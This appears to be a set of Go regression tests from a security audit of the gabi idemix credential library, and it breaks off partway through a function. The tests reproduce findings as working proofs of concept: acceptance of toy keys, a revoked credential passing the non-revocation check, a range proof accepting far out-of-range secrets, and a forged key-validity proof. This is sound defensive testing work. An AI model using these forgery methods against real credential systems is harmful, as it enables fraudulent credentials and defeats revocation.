	if (Hash{}).Equal(Hash{9}) {
		t.Errorf("Hash{}.Equal(Hash{9}) = true")
	}
}
