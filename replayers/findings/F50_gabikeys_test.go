package gabikeys

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// F50: outside demo mode NewPrivateKeyFromXML checked that p and q are consistent safe primes but not that the modulus has a
// supported length (the public-key reader does): a private key with p = 23, q = 47 was accepted.
func TestF50(t *testing.T) {
	doc := `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<IssuerPrivateKey xmlns="http://www.zurich.ibm.com/security/idemix">
   <Counter>0</Counter>
   <ExpiryDate>1700000000</ExpiryDate>
   <Elements>
      <p>23</p>
      <q>47</q>
      <pPrime>11</pPrime>
      <qPrime>23</qPrime>
   </Elements>
</IssuerPrivateKey>`
	_, err := NewPrivateKeyFromXML(doc, true)
	require.NoError(t, err, "demo mode accepts toy keys")
	_, err = NewPrivateKeyFromXML(doc, false)
	require.Error(t, err, "a private key with an 11-bit modulus is accepted outside demo mode")
}
