package signed

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/asn1"
	"encoding/pem"
	stdbig "math/big"
	"testing"

	"github.com/fxamacker/cbor"
)

func huntRecover(p *any) {
	if r := recover(); r != nil {
		*p = r
	}
}

type huntMsg struct {
	A string
	B int
}

func TestHuntUnmarshalVerifyTrailingBytes(t *testing.T) {
	sk, _ := GenerateKey()
	m, err := MarshalSign(sk, huntMsg{"hello", 5})
	if err != nil {
		t.Fatal(err)
	}
	var out huntMsg
	if err := UnmarshalVerify(&sk.PublicKey, m, &out); err != nil {
		t.Fatal(err)
	}
	for _, tail := range [][]byte{{0x00}, []byte("garbage"), m} {
		var out2 huntMsg
		m2 := append(append(Message{}, m...), tail...)
		if err := UnmarshalVerify(&sk.PublicKey, m2, &out2); err == nil {
			t.Errorf("signed message followed by %d extra bytes accepted (out=%v)", len(tail), out2)
		}
	}
}

func TestHuntUnmarshalVerifyTupleVariants(t *testing.T) {
	sk, _ := GenerateKey()
	payload, _ := cbor.Marshal(huntMsg{"hello", 5}, cbor.EncOptions{})
	sig, _ := Sign(sk, payload)
	other, _ := cbor.Marshal(huntMsg{"evil", 6}, cbor.EncOptions{})

	// map with an additional key
	extra, _ := cbor.Marshal(map[string][]byte{"Msg": payload, "Sig": sig, "Zzz": []byte("x")}, cbor.EncOptions{})
	var out huntMsg
	if err := UnmarshalVerify(&sk.PublicKey, extra, &out); err == nil {
		t.Errorf("tuple with an unknown third field accepted")
	}
	// lower-case keys (case-insensitive matching)
	lower, _ := cbor.Marshal(map[string][]byte{"msg": payload, "sig": sig}, cbor.EncOptions{})
	if err := UnmarshalVerify(&sk.PublicKey, lower, &out); err == nil {
		t.Errorf("tuple with keys msg/sig (wrong case) accepted")
	}
	// duplicate key: hand-built map {Msg: other, Sig: sig, Msg: payload}
	enc := func(b []byte) []byte { e, _ := cbor.Marshal(b, cbor.EncOptions{}); return e }
	encs := func(s string) []byte { e, _ := cbor.Marshal(s, cbor.EncOptions{}); return e }
	dup := []byte{0xa3}
	dup = append(dup, encs("Msg")...)
	dup = append(dup, enc(other)...)
	dup = append(dup, encs("Sig")...)
	dup = append(dup, enc(sig)...)
	dup = append(dup, encs("Msg")...)
	dup = append(dup, enc(payload)...)
	out = huntMsg{}
	if err := UnmarshalVerify(&sk.PublicKey, dup, &out); err == nil {
		t.Errorf("tuple with a duplicate Msg key accepted (out=%v)", out)
	}
	// array form
	arr, _ := cbor.Marshal([][]byte{payload, sig}, cbor.EncOptions{})
	if err := UnmarshalVerify(&sk.PublicKey, arr, &out); err == nil {
		t.Errorf("tuple as array accepted")
	}
}

func TestHuntVerifySignatureForms(t *testing.T) {
	sk, _ := GenerateKey()
	msg := []byte("message")
	sig, _ := Sign(sk, msg)
	if err := Verify(&sk.PublicKey, msg, sig); err != nil {
		t.Fatal(err)
	}
	var rs struct{ R, S *stdbig.Int }
	asn1.Unmarshal(sig, &rs)
	n := elliptic.P256().Params().N
	// malleability: (r, n-s)
	s2 := new(stdbig.Int).Sub(n, rs.S)
	sig2, _ := asn1.Marshal(struct{ R, S *stdbig.Int }{rs.R, s2})
	if err := Verify(&sk.PublicKey, msg, sig2); err == nil {
		t.Logf("(r, n-s) verifies as well: signatures are malleable (standard ECDSA)")
	}
	// r + n
	r2 := new(stdbig.Int).Add(n, rs.R)
	sig3, _ := asn1.Marshal(struct{ R, S *stdbig.Int }{r2, rs.S})
	if err := Verify(&sk.PublicKey, msg, sig3); err == nil {
		t.Errorf("(r+n, s) verifies")
	}
	// negative, zero
	for _, c := range [][2]int64{{0, 0}, {-1, 1}, {1, -1}, {0, 1}} {
		sg, _ := asn1.Marshal(struct{ R, S *stdbig.Int }{stdbig.NewInt(c[0]), stdbig.NewInt(c[1])})
		var pan any
		var err error
		func() { defer huntRecover(&pan); err = Verify(&sk.PublicKey, msg, sg) }()
		if pan != nil || err == nil {
			t.Errorf("signature (%d,%d): panic=%v err=%v", c[0], c[1], pan, err)
		}
	}
	// three integers
	sg, _ := asn1.Marshal([]*stdbig.Int{rs.R, rs.S, stdbig.NewInt(1)})
	if err := Verify(&sk.PublicKey, msg, sg); err == nil {
		t.Errorf("three-integer signature accepted")
	}
	// empty / nil signature
	for _, sg := range [][]byte{nil, {}, {0x30, 0x00}} {
		var pan any
		var err error
		func() { defer huntRecover(&pan); err = Verify(&sk.PublicKey, msg, sg) }()
		if pan != nil || err == nil {
			t.Errorf("signature %x: panic=%v err=%v", sg, pan, err)
		}
	}
	// BER long-form length
	ber := append([]byte{0x30, 0x81, sig[1]}, sig[2:]...)
	if sig[1] < 0x80 {
		if err := Verify(&sk.PublicKey, msg, ber); err == nil {
			t.Errorf("non-DER (long form length) signature accepted")
		}
	}
}

func TestHuntVerifyNilKey(t *testing.T) {
	sk, _ := GenerateKey()
	sig, _ := Sign(sk, []byte("m"))
	var pan any
	var err error
	func() { defer huntRecover(&pan); err = Verify(nil, []byte("m"), sig) }()
	if pan != nil {
		t.Errorf("Verify(nil key) panics: %v", pan)
	} else if err == nil {
		t.Errorf("Verify(nil key) succeeds")
	}
	pan = nil
	func() { defer huntRecover(&pan); err = Verify(&ecdsa.PublicKey{}, []byte("m"), sig) }()
	if pan != nil {
		t.Errorf("Verify(empty key) panics: %v", pan)
	} else if err == nil {
		t.Errorf("Verify(empty key) succeeds")
	}
	pan = nil
	func() { defer huntRecover(&pan); _, err = Sign(nil, []byte("m")) }()
	if pan != nil {
		t.Errorf("Sign(nil key) panics: %v", pan)
	}
	pan = nil
	func() { defer huntRecover(&pan); _, err = MarshalPublicKey(nil) }()
	if pan != nil {
		t.Errorf("MarshalPublicKey(nil) panics: %v", pan)
	}
	pan = nil
	func() { defer huntRecover(&pan); _, err = MarshalPrivateKey(nil) }()
	if pan != nil {
		t.Errorf("MarshalPrivateKey(nil) panics: %v", pan)
	}
	pan = nil
	func() { defer huntRecover(&pan); _, err = MarshalPemPublicKey(nil) }()
	if pan != nil {
		t.Errorf("MarshalPemPublicKey(nil) panics: %v", pan)
	}
}

func TestHuntPemTypeIgnored(t *testing.T) {
	sk, _ := GenerateKey()
	pubDer, _ := MarshalPublicKey(&sk.PublicKey)
	privDer, _ := MarshalPrivateKey(sk)
	wrongPub := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: pubDer})
	if _, err := UnmarshalPemPublicKey(wrongPub); err == nil {
		t.Errorf("public key in a PEM block of type EC PRIVATE KEY accepted")
	}
	wrongPriv := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: privDer})
	if _, err := UnmarshalPemPrivateKey(wrongPriv); err == nil {
		t.Errorf("private key in a PEM block of type CERTIFICATE accepted")
	}
	good, _ := MarshalPemPublicKey(&sk.PublicKey)
	// text before and a second block after
	other, _ := GenerateKey()
	otherPem, _ := MarshalPemPublicKey(&other.PublicKey)
	pk, err := UnmarshalPemPublicKey(append(append([]byte("leading junk\n"), good...), otherPem...))
	if err == nil {
		t.Errorf("PEM input with leading junk and two blocks accepted (first block used: %v)", pk.Equal(&sk.PublicKey))
	}
	// headers
	withHdr := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Headers: map[string]string{"Proc-Type": "4,ENCRYPTED"}, Bytes: pubDer})
	if _, err := UnmarshalPemPublicKey(withHdr); err == nil {
		t.Errorf("PEM block with Proc-Type: 4,ENCRYPTED header accepted")
	}
}

func TestHuntPKCS8Refused(t *testing.T) {
	sk, _ := GenerateKey()
	p8, err := x509.MarshalPKCS8PrivateKey(sk)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := UnmarshalPemPrivateKey(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: p8})); err != nil {
		t.Errorf("PKCS#8 EC private key (openssl genpkey format) refused: %v", err)
	}
}

func TestHuntOtherKeyTypes(t *testing.T) {
	for _, curve := range []elliptic.Curve{elliptic.P224(), elliptic.P384(), elliptic.P521()} {
		sk, _ := ecdsa.GenerateKey(curve, rand.Reader)
		msg := []byte("m")
		sig, err := Sign(sk, msg)
		if err != nil {
			t.Logf("%s: Sign: %v", curve.Params().Name, err)
			continue
		}
		if err := Verify(&sk.PublicKey, msg, sig); err != nil {
			t.Errorf("%s: own signature does not verify: %v", curve.Params().Name, err)
		}
		_ = sha256.Size
	}
}

func TestHuntMarshalSignNil(t *testing.T) {
	sk, _ := GenerateKey()
	m, err := MarshalSign(sk, nil)
	if err != nil {
		t.Logf("MarshalSign(nil): %v", err)
		return
	}
	var out *huntMsg
	err = UnmarshalVerify(&sk.PublicKey, m, &out)
	t.Logf("nil message: err=%v out=%v", err, out)
	// dst nil / non-pointer
	var pan any
	func() { defer huntRecover(&pan); err = UnmarshalVerify(&sk.PublicKey, m, nil) }()
	if pan != nil {
		t.Errorf("UnmarshalVerify(dst=nil) panics: %v", pan)
	} else if err == nil {
		t.Errorf("UnmarshalVerify(dst=nil) succeeds")
	}
	func() { defer huntRecover(&pan); err = UnmarshalVerify(&sk.PublicKey, nil, &out) }()
	if pan != nil {
		t.Errorf("UnmarshalVerify(empty message) panics: %v", pan)
	} else if err == nil {
		t.Errorf("UnmarshalVerify(empty message) succeeds")
	}
}
