package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/gabikeys"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/revocation"
	"github.com/stretchr/testify/require"
)

// F11 (open, protocol level): the disclosure proof does not say which hidden attribute is the revocation
// attribute; revocationAttrIndex takes any hidden response below 2^580, and the prover controls response sizes.
// Everybody knows a witness for the value 1 - (nu, 1), since nu^1 = nu - so the holder of a REVOKED credential that
// has a hidden attribute equal to 1 proves "non-revocation" against the newest accumulator with the normal API.
func TestF11(t *testing.T) {
	witness, update, acc := setupRevocation(t, testPrivK, testPubK)
	// credential: attribute 2 has the value 1; the last attribute is the revocation attribute
	attrs := []*big.Int{big.NewInt(123456789), big.NewInt(5), big.NewInt(1), big.NewInt(7), witness.E}
	signature, err := SignMessageBlock(testPrivK, testPubK, attrs)
	require.NoError(t, err)

	// the issuer revokes the credential
	acc, event, err := acc.Remove(testPrivK, witness.E, update.Events[0])
	require.NoError(t, err)
	update, err = revocation.NewUpdate(testPrivK, acc, []*revocation.Event{event})
	require.NoError(t, err)
	require.Equal(t, revocation.ErrorRevoked, witness.Update(testPubK, update), "credential is revoked")

	// the holder pretends that the attribute with value 1 is the revocation attribute
	fake := &revocation.Witness{U: new(big.Int).Set(acc.Nu), E: big.NewInt(1), SignedAccumulator: update.SignedAccumulator}
	cred := &Credential{Signature: signature, Pk: testPubK, Attributes: attrs, NonRevocationWitness: fake}

	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	proofd, err := cred.CreateDisclosureProof([]int{1}, nil, true, context, nonce)
	if err != nil {
		t.Logf("CreateDisclosureProof error: %v", err)
		return
	}
	if (ProofList{proofd}).Verify([]*gabikeys.PublicKey{testPubK}, context, nonce, false, nil) {
		t.Errorf("revoked credential with a hidden attribute equal to 1 passes the non-revocation check against accumulator index %d", acc.Index)
	}
}
