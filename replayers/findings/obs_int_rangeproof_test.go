package rangeproof

import (
	"encoding/json"
	"os"
	"os/exec"
	"testing"

	"github.com/privacybydesign/gabi/big"
)

// newWithParams compares a uint with the untyped constant math.MaxInt64. Where uint has 32 bits (GOARCH=386, arm,
// mips, wasm32 ...) the constant does not fit the type and the package - and with it every package importing it -
// does not compile.
func TestHuntBuild32Bit(t *testing.T) {
	gobin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command")
	}
	for _, arch := range []string{"386", "arm"} {
		cmd := exec.Command(gobin, "build", ".")
		cmd.Env = append(os.Environ(), "GOOS=linux", "GOARCH="+arch, "CGO_ENABLED=0")
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Errorf("GOARCH=%s: package rangeproof does not compile: %v\n%s", arch, err, out)
		}
	}
}

// GenerateSquaresTable(limit) fills the entries 0..limit-1, entry i holding the three squares of 4*i+2 (its comment
// promises the entries "up-to and including limit", and Ld() is computed for values up to 4*len). Split is handed
// delta = 4*i+2 but compares delta itself - not the index (delta-2)/4 - with len(table): three quarters of the table
// can never be reached, a holder with a table for differences up to 100 cannot prove a difference of 25.
func TestHuntSquaresTableRejectsCoveredValues(t *testing.T) {
	const limit = 100
	table := GenerateSquaresTable(limit)

	// the entry for limit itself, promised by the comment, is missing
	if (*table)[limit] == nil {
		t.Errorf("entry %d (\"up-to and including limit\") is not filled", limit)
	}

	for _, diff := range []int64{24, 25, 50, 99} {
		entry := (*table)[diff]
		if entry == nil || entry[0]*entry[0]+entry[1]*entry[1]+entry[2]*entry[2] != 4*diff+2 {
			t.Fatalf("table has no correct entry for %d", diff)
		}
		// what NewProofStructure makes of "m - bound = diff" for a three square splitter
		delta := big.NewInt(4*diff + 2)
		if _, err := table.Split(delta); err != nil {
			t.Errorf("difference %d (delta %v): table holds the entry %v, but Split says: %v (delta compared with len=%d instead of the index %d)",
				diff, delta, entry, err, len(*table), diff)
		}
	}
}

// Side observation (sign, not width): with three squares the proved bound is K = 4*bound-2, which is negative for
// bound <= 0. big.Int refuses to marshal negative values, so the proof for "m >= 0" cannot be put on the wire.
func TestHuntThreeSquareProofWithBoundZeroMarshals(t *testing.T) {
	p := &Proof{
		Cs:         []*big.Int{big.NewInt(1), big.NewInt(1), big.NewInt(1)},
		DResponses: []*big.Int{big.NewInt(1), big.NewInt(1), big.NewInt(1)},
		VResponses: []*big.Int{big.NewInt(1), big.NewInt(1), big.NewInt(1)},
		V5Response: big.NewInt(1),
		Ld:         8, Sign: 1, A: 4,
	}
	s, err := NewProofStructure(1, 1, 1, big.NewInt(0), GenerateSquaresTable(16))
	if err != nil {
		t.Fatal(err)
	}
	p.K = s.k
	if p.K.Sign() >= 0 {
		t.Fatalf("expected negative K, got %v", p.K)
	}
	if _, err := json.Marshal(p); err != nil {
		t.Errorf("proof of m >= 0 with three squares (K = %v) cannot be marshalled: %v", p.K, err)
	}
}
