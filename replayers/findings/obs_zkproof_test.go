package zkproof_test

import (
	"fmt"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/zkproof"
)

func huntRecover(t *testing.T, what string) {
	if r := recover(); r != nil {
		t.Errorf("PANIC in %s: %v", what, r)
	}
}

// A base that none of the lookups knows: Exp reports false, the structures do not look at it.
func TestHuntQrMissingBase(t *testing.T) {
	setupParameters(t)
	var s zkproof.QrRepresentationProofStructure
	s.Lhs = []zkproof.LhsContribution{{Base: "nosuchbase", Power: big.NewInt(1)}}
	s.Rhs = []zkproof.RhsContribution{{Base: "S", Secret: "x", Power: 1}}
	bases := zkproof.NewBaseMerge(testPubK1)

	defer huntRecover(t, "missing lhs base")
	p1 := &RepTestProof{results: map[string]*big.Int{"x": big.NewInt(25)}}
	p2 := &RepTestProof{results: map[string]*big.Int{"x": big.NewInt(777777)}}
	l1 := s.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, p1)
	l2 := s.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, p2)
	if fmt.Sprint(l1) == fmt.Sprint(l2) {
		t.Errorf("unknown base on the left hand side: no error, commitment %v independent of the response", l1)
	}

	// unknown base on the right hand side: the factor is silently taken from the previous one
	s.Lhs = []zkproof.LhsContribution{{Base: "Z", Power: big.NewInt(1)}}
	s.Rhs = []zkproof.RhsContribution{{Base: "S", Secret: "x", Power: 1}, {Base: "nosuchbase", Secret: "y", Power: 1}}
	q1 := &RepTestProof{results: map[string]*big.Int{"x": big.NewInt(25), "y": big.NewInt(1)}}
	q2 := &RepTestProof{results: map[string]*big.Int{"x": big.NewInt(25), "y": big.NewInt(99999)}}
	m1 := s.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, q1)
	m2 := s.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, q2)
	if fmt.Sprint(m1) == fmt.Sprint(m2) {
		t.Errorf("unknown base on the right hand side: no error, commitment independent of the response for it")
	}
	sec := &RepTestSecret{secrets: map[string]*big.Int{"x": big.NewInt(1), "y": big.NewInt(2)}, randomizers: map[string]*big.Int{"x": big.NewInt(3), "y": big.NewInt(4)}}
	sec2 := &RepTestSecret{secrets: map[string]*big.Int{"x": big.NewInt(1), "y": big.NewInt(2)}, randomizers: map[string]*big.Int{"x": big.NewInt(3), "y": big.NewInt(4444)}}
	c1 := s.CommitmentsFromSecrets(testPubK1, nil, &bases, sec)
	c2 := s.CommitmentsFromSecrets(testPubK1, nil, &bases, sec2)
	if fmt.Sprint(c1) == fmt.Sprint(c2) {
		t.Errorf("CommitmentsFromSecrets, unknown base on the right hand side: no error, commitment independent of the randomizer for it")
	}
}

func TestHuntMissingSecretOrResult(t *testing.T) {
	setupParameters(t)
	var s zkproof.QrRepresentationProofStructure
	s.Lhs = []zkproof.LhsContribution{{Base: "Z", Power: big.NewInt(1)}}
	s.Rhs = []zkproof.RhsContribution{{Base: "S", Secret: "x", Power: 1}}
	bases := zkproof.NewBaseMerge(testPubK1)
	func() {
		defer huntRecover(t, "Qr CommitmentsFromProof, result missing")
		pm := zkproof.NewProofMerge(&RepTestProof{results: map[string]*big.Int{}})
		s.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, &pm)
	}()
	func() {
		defer huntRecover(t, "Qr CommitmentsFromSecrets, randomizer missing")
		sm := zkproof.NewSecretMerge(&RepTestSecret{})
		s.CommitmentsFromSecrets(testPubK1, nil, &bases, &sm)
	}()
	func() {
		defer huntRecover(t, "Qr CommitmentsFromProof, nil power")
		s2 := zkproof.QrRepresentationProofStructure{Lhs: []zkproof.LhsContribution{{Base: "Z"}}}
		s2.CommitmentsFromProof(testPubK1, nil, big.NewInt(5), &bases, &RepTestProof{})
	}()
	g, ok := zkproof.BuildGroup(big.NewInt(47))
	if !ok {
		t.Fatal("group")
	}
	var r zkproof.RepresentationProofStructure
	r.Lhs = []zkproof.LhsContribution{{Base: "x", Power: big.NewInt(1)}}
	r.Rhs = []zkproof.RhsContribution{{Base: "g", Secret: "x", Power: 1}}
	gb := zkproof.NewBaseMerge(&g)
	func() {
		defer huntRecover(t, "CommitmentsFromProof, result missing")
		r.CommitmentsFromProof(g, nil, big.NewInt(5), &gb, &RepTestProof{})
	}()
	func() {
		defer huntRecover(t, "IsTrue, secret missing")
		r.IsTrue(g, &gb, &RepTestSecret{})
	}()
}

func TestHuntEmptyNames(t *testing.T) {
	setupParameters(t)
	func() {
		defer huntRecover(t, `PublicKey.Base("")`)
		if testPubK1.Base("") != nil {
			t.Errorf("base for empty name")
		}
	}()
	func() {
		defer huntRecover(t, `BaseMerge(pk).Exp("")`)
		b := zkproof.NewBaseMerge(testPubK1)
		if b.Exp(new(big.Int), "", big.NewInt(1), testPubK1.N) {
			t.Errorf("exp for empty name")
		}
	}()
	func() {
		defer huntRecover(t, "NewBaseMerge(nil)")
		b := zkproof.NewBaseMerge(nil)
		b.Base("x")
	}()
	func() {
		defer huntRecover(t, "NewBaseMerge()")
		b := zkproof.NewBaseMerge()
		if b.Base("x") != nil || b.Exp(new(big.Int), "x", big.NewInt(1), big.NewInt(7)) || len(b.Names()) != 0 {
			t.Errorf("empty merge")
		}
		sm := zkproof.NewSecretMerge()
		pm := zkproof.NewProofMerge()
		if sm.Secret("x") != nil || sm.Randomizer("x") != nil || pm.ProofResult("x") != nil {
			t.Errorf("empty merge")
		}
	}()
}

// more than 16 parts switch BaseMerge to a map: is the answer the same?
func TestHuntBaseMergePrecedence(t *testing.T) {
	mk := func(n int) zkproof.BaseMerge {
		parts := []zkproof.BaseLookup{
			&RepTestCommit{commits: map[string]*big.Int{"x": big.NewInt(1)}},
			&RepTestCommit{commits: map[string]*big.Int{"x": big.NewInt(2)}},
		}
		for i := 0; i < n; i++ {
			parts = append(parts, &RepTestCommit{commits: map[string]*big.Int{fmt.Sprintf("f%d", i): big.NewInt(100)}})
		}
		return zkproof.NewBaseMerge(parts...)
	}
	small, large := mk(3), mk(20)
	a, b := small.Base("x"), large.Base("x")
	if a.Cmp(b) != 0 {
		t.Errorf("the same name in two parts: a merge of 5 parts answers %v, a merge of 22 parts answers %v", a, b)
	}
}

func TestHuntGroupExpBounds(t *testing.T) {
	g, ok := zkproof.BuildGroup(big.NewInt(47)) // order 23
	if !ok {
		t.Fatal("group")
	}
	for _, e := range []int64{0, 1, 22, -1, -22, -23, -24, -30, -47, 23, 24} {
		func() {
			defer huntRecover(t, fmt.Sprintf("Group.Exp(g, %d)", e))
			var ret big.Int
			if !g.Exp(&ret, "g", big.NewInt(e), g.P) {
				t.Errorf("no result")
				return
			}
			want := new(big.Int).Exp(g.G, new(big.Int).Mod(big.NewInt(e), g.Order), g.P)
			if ret.Cmp(want) != 0 {
				t.Errorf("Group.Exp(g, %d) = %v, want %v", e, &ret, want)
			}
		}()
	}
}
