package keyproof

import (
	"encoding/json"
	"fmt"
	"os"
	"reflect"
	"sort"
	"strings"
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/zkproof"
	"github.com/stretchr/testify/require"
)

// Side finding (not a Fiat-Shamir gap): the results of a keyproof range proof are only bounded from above
// (rangeProofStructure.verifyProofStructure: val.Cmp(rangeLimit) >= 0), negative results are accepted and are
// reduced modulo the group order before use. A secret far above 2^(l2+epsilon+2) then simply produces negative
// results for the challenge bits that are 1: the "range proof" accepts every secret in Z_q.
//
// The test FAILS if a proof for x = 2^600 is accepted by a structure that claims x in [0, 2^8] (slack 2^258).
func TestHuntRangeProofAcceptsSecretFarOutOfRange(t *testing.T) {
	g, ok := zkproof.BuildGroup(findSafePrime(750))
	require.True(t, ok)

	s := newPedersenRangeProofStructure("x", 0, 8)

	x := new(big.Int).Lsh(big.NewInt(1), 600)
	require.True(t, x.Cmp(g.Order) < 0)
	xh := common.FastRandomBigInt(g.Order)

	secret := RangeTestSecret{
		secrets:     map[string]*big.Int{"x": x, "x_hider": xh},
		randomizers: map[string]*big.Int{},
	}
	var gx, hx big.Int
	g.Exp(&gx, "g", x, g.P)
	g.Exp(&hx, "h", xh, g.P)
	commit := RangeTestCommit{commits: map[string]*big.Int{
		"x": new(big.Int).Mod(new(big.Int).Mul(&gx, &hx), g.P),
	}}
	bases := zkproof.NewBaseMerge(&g, &commit)

	listSecret, rpcommit := s.commitmentsFromSecrets(g, []*big.Int{}, &bases, &secret)
	challenge := common.HashCommit(listSecret, false)
	proof := s.buildProof(g, challenge, rpcommit, &secret)

	negative := 0
	for _, v := range proof.Results["x"] {
		if v.Sign() < 0 {
			negative++
		}
	}
	t.Logf("%d of %d results of the range secret are negative", negative, len(proof.Results["x"]))

	if !s.verifyProofStructure(proof) {
		return // rejected: fine
	}
	listProof := s.commitmentsFromProof(g, []*big.Int{}, challenge, &bases, proof)
	accepted := challenge.Cmp(common.HashCommit(listProof, false)) == 0
	require.False(t, accepted, "range proof for x in [0,2^8] accepted with x = 2^600")
}

// ---------------------------------------------------------------------------------------------------------------
// Coverage probe: every number of a valid ValidKeyProof is changed (one at a time, one representative per
// field path); a number whose change leaves the proof valid is not bound by anything the verifier checks.
// ---------------------------------------------------------------------------------------------------------------

type huntSlot struct {
	path string
	v    *big.Int
}

func huntCollect(v reflect.Value, path string, seen map[string]int, perPath int, out *[]huntSlot) {
	switch v.Kind() {
	case reflect.Ptr:
		if v.IsNil() {
			return
		}
		if b, ok := v.Interface().(*big.Int); ok {
			if seen[path] < perPath {
				seen[path]++
				*out = append(*out, huntSlot{path, b})
			}
			return
		}
		huntCollect(v.Elem(), path, seen, perPath, out)
	case reflect.Struct:
		for i := 0; i < v.NumField(); i++ {
			if !v.Type().Field(i).IsExported() {
				continue
			}
			huntCollect(v.Field(i), path+"."+v.Type().Field(i).Name, seen, perPath, out)
		}
	case reflect.Slice:
		for i := 0; i < v.Len(); i++ {
			huntCollect(v.Index(i), path+"[]", seen, perPath, out)
		}
	case reflect.Map:
		keys := v.MapKeys()
		sort.Slice(keys, func(i, j int) bool { return fmt.Sprint(keys[i]) < fmt.Sprint(keys[j]) })
		for _, k := range keys {
			huntCollect(v.MapIndex(k), path+"{"+shortKey(fmt.Sprint(k))+"}", seen, perPath, out)
		}
	}
}

// map keys of range proofs are names of secrets, which contain indices; collapse digits
func shortKey(s string) string {
	out := []rune{}
	for _, r := range s {
		if r >= '0' && r <= '9' {
			if len(out) > 0 && out[len(out)-1] == '#' {
				continue
			}
			out = append(out, '#')
			continue
		}
		out = append(out, r)
	}
	return string(out)
}

// Slow (about 9 minutes): only runs with HUNT_SLOW=1. Result on the unchanged tree: of 274 field paths only
// ...InterStepsProofs[].Bproof.Mul.Commit is unbound, and that field is deliberately ignored by the verifier
// (expStepBStructure.commitmentsFromProof replaces it by the commitment of the surrounding proof). This probe
// therefore PASSES; it documents coverage, it is not a finding.
func TestHuntValidKeyProofMutationCoverage(t *testing.T) {
	if os.Getenv("HUNT_SLOW") == "" {
		t.Skip("set HUNT_SLOW=1 to run")
	}
	s := NewValidKeyProofStructure(testN, []*big.Int{big.NewInt(36), big.NewInt(49), big.NewInt(64)})
	proof := s.BuildProof(testPPrime, testQPrime)
	require.True(t, s.VerifyProof(proof))

	var slots []huntSlot
	huntCollect(reflect.ValueOf(&proof), "ValidKeyProof", map[string]int{}, 1, &slots)
	t.Logf("%d representative numbers", len(slots))

	var unbound []string
	for _, sl := range slots {
		backup := new(big.Int).Set(sl.v)
		sl.v.Add(sl.v, big.NewInt(1))
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Logf("panic on %s: %v", sl.path, r)
				}
			}()
			if s.VerifyProof(proof) && !strings.HasSuffix(sl.path, ".Bproof.Mul.Commit") {
				unbound = append(unbound, sl.path)
			}
		}()
		sl.v.Set(backup)
	}
	require.True(t, s.VerifyProof(proof))
	for _, p := range unbound {
		t.Logf("NOT BOUND: %s", p)
	}
	require.Empty(t, unbound)
}

// ---------------------------------------------------------------------------------------------------------------
// Side finding (not a Fiat-Shamir gap, but a complete forgery of the key-correctness proof):
// pedersenStructure.verifyProofStructure only asks Commit != nil. A Pedersen "commitment" equal to 0 makes every
// reconstructed Schnorr commitment in which it occurs 0, independent of challenge and responses. With
// PProof.Commit = 0 the three relations that tie the modulus to the proven primes become vacuous:
//     p = g^p h^r (knowledge),  p = 2 p' + 1 (pPprimeRel),  g^N = p^q h^-x (pQNRel, i.e. N = p q).
// The Camenisch part of the proof (p', q' are prime) can then be given for the safe primes of some other, honest
// key, while the Gennaro part and the bases part are given for the real N. The Gennaro part only shows that N is
// a product of two QUASI-safe primes (2 r^k + 1), so N = (2 r^3 + 1)(2 q' + 1) passes: a modulus that is NOT a
// product of two safe primes gets a ValidKeyProof that VerifyProof accepts (also after a JSON round trip).
//
// The test FAILS if the forged proof is accepted.
// ---------------------------------------------------------------------------------------------------------------

func huntSqrtPrimePower(x, r *big.Int, k int) (*big.Int, bool) {
	m := new(big.Int).Exp(r, big.NewInt(int64(k)), nil)
	x = new(big.Int).Mod(x, m)
	if new(big.Int).Mod(x, r).Sign() == 0 {
		return nil, false
	}
	s, ok := common.PrimeSqrt(new(big.Int).Mod(x, r), r)
	if !ok {
		return nil, false
	}
	for i := 0; i < 2*k; i++ { // Newton: s <- s - (s^2 - x)/(2s) mod r^k
		f := new(big.Int).Sub(new(big.Int).Mul(s, s), x)
		inv := new(big.Int).ModInverse(new(big.Int).Lsh(s, 1), m)
		s = new(big.Int).Mod(new(big.Int).Sub(s, new(big.Int).Mul(f, inv)), m)
	}
	if new(big.Int).Mod(new(big.Int).Mul(s, s), m).Cmp(x) != 0 {
		return nil, false
	}
	return s, true
}

// almostSafePrimeProductBuildProof, with Pprime = r^k
func huntASPPBuildProof(r *big.Int, k int, Qprime, challenge, index *big.Int, commit almostSafePrimeProductCommit) (AlmostSafePrimeProductProof, bool) {
	Pprime := new(big.Int).Exp(r, big.NewInt(int64(k)), nil)
	proof := AlmostSafePrimeProductProof{Nonce: commit.nonce, Commitments: commit.commitments}
	N := new(big.Int).Mul(new(big.Int).Add(new(big.Int).Lsh(Pprime, 1), big.NewInt(1)), new(big.Int).Add(new(big.Int).Lsh(Qprime, 1), big.NewInt(1)))
	phiN := new(big.Int).Lsh(new(big.Int).Mul(Pprime, Qprime), 2)
	oddPhiN := new(big.Int).Mul(Pprime, Qprime)
	sqrt := func(x *big.Int) (*big.Int, bool) {
		a, ok := huntSqrtPrimePower(x, r, k)
		if !ok {
			return nil, false
		}
